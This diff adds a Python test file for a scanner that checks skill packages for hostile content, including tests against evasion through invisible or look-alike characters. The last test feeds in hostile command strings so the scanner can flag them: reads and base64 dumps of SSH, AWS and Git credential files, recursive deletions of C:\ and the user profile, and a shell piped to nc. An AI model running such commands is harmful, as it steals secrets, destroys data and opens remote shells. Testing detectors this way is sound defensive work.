@@ -1,0 +1,149 @@
+"""The cheap look at a file's words hides nothing from a rule that needs more than a look."""
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from skillhub.model.tree import File, Tree
+from skillhub.scan import orders, prerequisites, scan
+from skillhub.scan.code import SIGNS
+from skillhub.scan.pattern import Letters, joined, views
+from skillhub.scan.scanner import LOOKS
+from skillhub.scan.secrets import TOKENS, secrets
+from skillhub.scan.skill_files import SourceFile
+
+LITERALS = tuple(
+    {
+        *(each for signs in SIGNS.values() for each in signs),
+        *prerequisites._LOOKED_FOR,
+        *(b"]: #", b"]:#", b"![", b") ", b'")', b"](", b"]:", b"none", b"font-size", b"#fff"),
+    }
+)
+TABLES = (orders._SIGNS, prerequisites._SIGNS)
+WORDS = sorted({word for table in TABLES for sign in table.values() for group in sign.groups for word in group})
+LOOKED_FOR = frozenset[bytes]().union(*(group for _, look in LOOKS for group in look.words))
+# What parts words, joins them, is left out of them, or folds to something else.
+GLUE = [
+    "",
+    " ",
+    "\n",
+    "\r\n",
+    "\t",
+    "*",
+    "**",
+    "_",
+    "-",
+    "/",
+    "+",
+    "\0",
+    "'",
+    '"',
+    "\\",
+    "\\\n",
+    "''",
+    '""',
+    "$@",
+    "|",
+]
+GLUE += ["\u00ad", "\u200b", "é", "\u0430", "\u0435", "т", "\u212a", "\u0130", "\ud7ff", "1", "a", "Σ"]
+texts = st.lists(
+    st.sampled_from([each.decode() for each in LITERALS]) | st.sampled_from(WORDS) | st.sampled_from(GLUE),
+    max_size=12,
+).map("".join)
+
+
+def test_what_is_looked_for_is_in_lower_case():
+    assert all(each == each.lower() for each in (*LITERALS, *WORDS, *LOOKED_FOR))
+
+
+def test_each_literal_is_seen_wherever_it_stands():
+    for each in LITERALS:
+        for around in (b"%b", b"x%bx", b"X %b\n", b"*%b*", b"\xff%b\xd0\xb0", b"-%b_", b"\r\n%b\0"):
+            assert Letters((around % each).upper()).has(each), (each, around)
+        assert not Letters(b"").has(each)
+
+
+@settings(max_examples=100)
+@given(texts, st.booleans())
+def test_a_look_says_what_a_search_says(text, is_upper):
+    data = (text.upper() if is_upper else text).encode()
+    letters = Letters(data)
+    assert [each for each in LITERALS if letters.has(each)] == [each for each in LITERALS if each in data.lower()]
+    assert letters.words == set(re.findall(rb"[a-z0-9]+", data.lower()))
+    assert letters.longest >= max(map(len, re.findall(rb"[a-z0-9+/_-]+", data.lower())), default=0)
+
+
+@settings(max_examples=100)
+@given(texts, st.booleans())
+def test_a_sign_is_looked_for_wherever_one_of_its_words_is_in_the_folded_text(text, is_upper):
+    file = SourceFile("a.md", (text.upper() if is_upper else text).encode())
+    for sign in (sign for table in TABLES for sign in table.values()):
+        within = sign.within(file)
+        assert (within is not None) == sign.is_worth(file.folded)
+        for passage in (file.folded, *file.paragraphs, *(each.text.lower() for each in file.passages)):
+            assert (within is not None and within.is_worth(passage)) == sign.is_worth(
+                passage
+            ) or passage not in file.folded
+
+
+@settings(max_examples=100)
+@given(texts, st.sampled_from(["a.sh", "a.ps1", "a.bat"]))
+def test_what_stands_around_joints_has_the_new_words(text, path):
+    lowered = (text * 3).encode().lower()
+    (blanked, _, none), *closed = joined(lowered, path)
+    assert none == b"" and len(blanked) == len(lowered)
+    for each, _, near in closed:
+        new = LOOKED_FOR & Letters(each).words
+        assert new <= Letters(blanked).words | Letters(near).words
+
+
+@pytest.mark.parametrize("begin", range(0, 400, 57))
+def test_a_long_word_is_shortened_from_200_letters_on(begin):
+    for length in (199, 200, 201, 450):
+        data = b"ab " * (begin // 3) + b"\n" + b"x" * length + b" | sh"
+        assert (len(list(views(data, True))) == 2) == (length >= 200)
+
+
+@pytest.mark.parametrize(("begin", "shape"), TOKENS)
+def test_every_token_passes_the_look(begin, shape):
+    rest = shape.decode()[len(begin) :]
+    letters, least = re.findall(r"\[([^\]]+)\]\{(\d+)", rest)[0]
+    some = (
+        "0a1b2c3d4e5f6789" if letters == "0-9a-f" else "Q2W3E4R5T6Y7" if letters == "A-Z2-7" else "aZ3bY4cX5dW6eV7fU8"
+    )
+    text = begin.decode() + (some * 20)[: int(least)]
+    if begin == b"github_pat_":
+        text += "_" + (some * 20)[:59]
+    assert [rule.id for rule, _ in secrets(Letters(f"key = {text}\n".encode()))]
+
+
+@pytest.mark.parametrize(
+    ("rule", "text"),
+    [
+        *(
+            ("SH401", f"{begin}~/.{place}")
+            for begin in ("read ", "base64 -w0 ")
+            for place in (
+                "ssh/id_rsa",
+                "aws/credentials",
+                "netrc",
+                "kube/config",
+                "npmrc",
+                "pypirc",
+                "git-credentials",
+            )
+        ),
+        *(("SH401", f"base64 ~/.{place}") for place in ("docker", "gnupg", "ssh")),
+        *(
+            ("SH401", f"(Path.home() / '.{place}')")
+            for place in ("ssh", "aws", "netrc", "kube", "gnupg", "git-credentials")
+        ),
+        *(("SH405", f"{name} /s /q {place}") for name in ("del", "rd") for place in ("c:\\*", "%USERPROFILE%")),
+        *(("SH402", f"{shell} -i | nc a.invalid 1") for shell in ("sh", "bash", "dash", "zsh")),
+    ],
+)
+def test_no_word_that_a_look_waits_for_hides_a_place(rule, text):
+    files = {"SKILL.md": File(b"---\nname: a\ndescription: b\n---\n"), "a.txt": File(f"{text}\n".encode())}
+    assert rule in {finding.rule for finding in scan(Tree(files))}
